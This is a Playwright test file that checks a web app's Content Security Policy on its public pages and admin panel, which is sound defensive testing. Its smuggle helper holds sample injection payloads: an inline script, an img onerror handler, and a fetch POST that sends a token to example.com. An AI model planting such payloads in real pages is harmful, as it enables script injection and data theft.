import { paths } from '#paths.ts';
import { expect, test } from '../support/fixtures.ts';
import { publicPaths } from '../support/public-pages.ts';

const panelScreens = ['', '/properties', '/locations', '/inquiries', '/clients', '/seo', '/mails', '/users'];

/** Tries what a script that somebody smuggled in would try; says what the browser refused and whether it ran. */
const smuggle = () =>
  new Promise<{ ran: boolean; refused: string[] }>((resolve) => {
    const refused = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      refused.add(effectiveDirective);
      if (refused.size === 3) resolve({ ran: 'smuggled' in window, refused: [...refused].sort() });
    });
    const script = document.createElement('script');
    script.textContent = 'window.smuggled = true';
    const picture = document.createElement('div');
    picture.innerHTML = '<img src="data:," onerror="window.smuggled = true">';
    document.body.append(script, picture);
    fetch('https://example.com/?token=1', { method: 'POST' }).catch(() => undefined);
  });

const allRefused = { ran: false, refused: ['connect-src', 'script-src-attr', 'script-src-elem'] };

/** A broken policy is an error of the console, which fails every test. */
test('every public page keeps its own policy', async ({ page, demoProperty }) => {
  const property = demoProperty();
  for (const address of [...publicPaths, paths.property(property), paths.location(property.location_id)]) {
    const answer = await page.goto(address);
    expect(answer?.headers()['content-security-policy'], address).toContain("frame-ancestors 'none'");
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  }
});

test('every screen of the panel keeps its own policy', async ({ administrator }) => {
  for (const screen of [...panelScreens, '/profile', '/settings', '/login']) {
    await administrator.goto(`/admin${screen}`);
    await expect(administrator.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(administrator.getByText('Cargando...')).toHaveCount(0);
  }
});

test.describe('a script that was smuggled in', () => {
  test.use({ expectedErrors: /Content Security Policy/ });

  test('does not run on a public page, and sends nothing away', async ({ page }) => {
    await page.goto('/');
    expect(await page.evaluate(smuggle)).toEqual(allRefused);
  });

  test('does not run in the panel, and sends nothing away', async ({ administrator }) => {
    await administrator.goto('/admin/profile');
    await expect(administrator.getByRole('heading', { name: 'Perfil' })).toBeVisible();
    expect(await administrator.evaluate(smuggle)).toEqual(allRefused);
  });
});
